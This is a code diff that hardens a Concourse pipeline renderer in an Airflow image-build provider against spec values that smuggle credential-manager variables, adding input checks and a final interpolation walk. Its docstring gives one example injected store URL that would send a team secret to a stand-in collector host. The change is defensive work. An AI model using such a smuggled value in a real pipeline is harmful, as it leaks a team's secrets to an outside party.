@@ -29,6 +29,15 @@ each Airflow connection the spec names, given to the step as the ``AIRFLOW_CONN_
 the provider reads, exactly as in an Airflow deployment. The build id is ``((build_id))``; left
 empty (``-v build_id=``), it is ``<pipeline>-<UTC date>``, so a nightly run re-triggered the same
 day resumes the same build.
+
+What a spec may put into the rendered config: values only, as structured YAML (the header is fixed
+text: no file name, no spec text), and never a ``((`` (or the older ``{{``). Concourse fills a
+``((var))`` anywhere in a pipeline from the team's credential manager, so a spec that could write
+one (``store: s3://bkt/((team_secret))?endpoint_url=https://collector.example``) would hand a team
+secret to whatever its text reaches. The free-text values (the store URL, the spec's file name and
+folder) are refused naming the field; every other spec value is held to a name pattern by the spec
+itself, and a last walk over the finished config (:func:`check_interpolation`) refuses any var
+that is not one of the renderer's own.
 """
 
 from __future__ import annotations
@@ -40,6 +49,8 @@ from typing import Any
 
 import yaml
 
+from airflow_provider_imagebuild.build.ids import control_character
+from airflow_provider_imagebuild.errors import InvalidInput
 from airflow_provider_imagebuild.plan import PipelinePlan, Step, plan_from_spec
 from airflow_provider_imagebuild.spec import PipelineSpec
 from airflow_provider_imagebuild.targets.registry import TARGET_ACTIONS
@@ -49,6 +60,43 @@ STATE_RESOURCE = "build-state"
 SOURCE = "source"
 LEASE_DIR = "lease"
 IMAGE = {"type": "registry-image", "source": {"repository": "((imagebuild_image))", "tag": "((imagebuild_tag))"}}
+# The vars the renderer writes itself (and ``connection_<id>``, one per connection the spec names).
+OWN_VARS = frozenset(
+    {"build_id", "imagebuild_image", "imagebuild_tag", "source_uri", "source_branch", "source_key", "imagebuild_store"}
+)
+_OWN_VAR_RE = re.compile(r"\(\((?P<name>[a-z0-9_]+)\)\)", re.ASCII)
+INTERPOLATION = ("((", "{{")  # Concourse's vars, and the old fly templating
+
+
+def spec_text(value: str, field: str) -> str:
+    """A spec-derived text that reaches the rendered config: refused (naming ``field``) when
+    Concourse would interpolate it or when it holds a line break or another control character."""
+    for opener in INTERPOLATION:
+        if opener in value:
+            raise InvalidInput(
+                field,
+                f"must not contain {opener!r}: Concourse would fill it from the team's credential manager",
+            )
+    bad = control_character(value) or next((ascii(c)[1:-1] for c in value if c in "\t\n"), None)
+    if bad:
+        raise InvalidInput(field, f"must not contain control characters (found {bad})")
+    return value
+
+
+def check_interpolation(config: Any, where: str = "pipeline") -> None:
+    """Every ``((`` in the finished config is a whole value the renderer wrote: one of
+    :data:`OWN_VARS` or a ``connection_<id>``. Keys and values both; the field is the config path."""
+    if isinstance(config, dict):
+        for key, value in config.items():
+            check_interpolation(key, f"{where} (a key)")
+            check_interpolation(value, f"{where}.{key}")
+    elif isinstance(config, list):
+        for i, value in enumerate(config):
+            check_interpolation(value, f"{where}[{i}]")
+    elif isinstance(config, str) and any(opener in config for opener in INTERPOLATION):
+        own = _OWN_VAR_RE.fullmatch(config)
+        if own is None or not (own["name"] in OWN_VARS or own["name"].startswith("connection_")):
+            raise InvalidInput(where, "holds a Concourse var the renderer did not write; refused")
 
 
 def connection_ids(spec: PipelineSpec) -> list[str]:
@@ -127,7 +175,7 @@ def _hook(step: Step, how: str) -> dict[str, Any]:
 def milestone_step(spec: PipelineSpec, step: Step, spec_dir: str, spec_file: str) -> dict[str, Any]:
     params: dict[str, Any] = {"BUILD_ID": "((build_id))", "SPEC_DIR": spec_dir, "IMAGEBUILD_TRY": "1"}
     if not spec.store_conn_id:  # the gate's store: the spec's URL, else the deployment's
-        params["IMAGEBUILD_STORE"] = spec.store or "((imagebuild_store))"
+        params["IMAGEBUILD_STORE"] = spec_text(spec.store, "store") if spec.store else "((imagebuild_store))"
     for conn_id in connection_ids(spec):
         params[f"AIRFLOW_CONN_{conn_id.upper()}"] = f"(({var_name(conn_id)}))"
     task: dict[str, Any] = {
@@ -175,6 +223,11 @@ def render_pipeline(spec: PipelineSpec, spec_path: Path, repo_root: Path) -> dic
     """The Concourse pipeline config (a mapping; :func:`render_yaml` writes it)."""
     plan: PipelinePlan = plan_from_spec(spec)
     spec_dir = spec_path.resolve().parent.relative_to(repo_root.resolve()).as_posix() or "."
+    spec_text(spec_dir, "the spec's folder (relative to --repo-root)")
+    spec_text(spec_path.name, "the spec's file name")
+    spec_text(spec.pipeline, "pipeline")
+    for conn_id in connection_ids(spec):
+        spec_text(conn_id, f"connection id {conn_id}")
     resources: list[dict[str, Any]] = [
         {
             "name": SOURCE,
@@ -195,7 +248,7 @@ def render_pipeline(spec: PipelineSpec, spec_path: Path, repo_root: Path) -> dic
         resources.append({"name": "schedule", "type": "time", "icon": "clock-outline", "source": trigger})
         job_plan.append({"get": "schedule", "trigger": True})
     job_plan += [milestone_step(spec, step, spec_dir, spec_path.name) for step in plan.steps]
-    return {
+    config = {
         "resource_types": [{"name": RESOURCE_TYPE, "type": "registry-image", "source": IMAGE["source"]}],
         "resources": resources,
         "jobs": [
@@ -207,6 +260,8 @@ def render_pipeline(spec: PipelineSpec, spec_path: Path, repo_root: Path) -> dic
             }
         ],
     }
+    check_interpolation(config)
+    return config
 
 
 class _Dumper(yaml.SafeDumper):
@@ -224,13 +279,16 @@ def _text(dumper: yaml.SafeDumper, value: str) -> yaml.ScalarNode:
 _Dumper.add_representer(str, _text)
 
 
+# Fixed text: nothing of the spec is pasted into a comment, where a line break would end it.
+HEADER = (
+    "# Concourse pipeline rendered by `imagebuild concourse render` from a pipeline spec (its job: build-<pipeline>).\n"
+    "# fly -t T set-pipeline -p NAME -c THIS_FILE -v build_id=ID (empty: <pipeline>-<UTC date>), and give the\n"
+    "# vars below from your credential manager: imagebuild_image/imagebuild_tag (the provider's image),\n"
+    "# source_uri/source_branch/source_key (the repository holding the spec), imagebuild_store (the store\n"
+    "# URL), connection_<id> (each Airflow connection the spec names, as its JSON or URI form).\n"
+)
+
+
 def render_yaml(spec: PipelineSpec, spec_path: Path, repo_root: Path) -> str:
-    header = (
-        f"# Concourse pipeline for {spec.pipeline}, rendered by `imagebuild concourse render {spec_path.name}`.\n"
-        "# fly -t T set-pipeline -p NAME -c THIS_FILE -v build_id=ID (empty: <pipeline>-<UTC date>), and give the\n"
-        "# vars below from your credential manager: imagebuild_image/imagebuild_tag (the provider's image),\n"
-        "# source_uri/source_branch/source_key (the repository holding the spec), imagebuild_store (the store\n"
-        "# URL), connection_<id> (each Airflow connection the spec names, as its JSON or URI form).\n"
-    )
     config = render_pipeline(spec, spec_path, repo_root)
-    return header + yaml.dump(config, Dumper=_Dumper, sort_keys=False, width=120)
+    return HEADER + yaml.dump(config, Dumper=_Dumper, sort_keys=False, width=120)
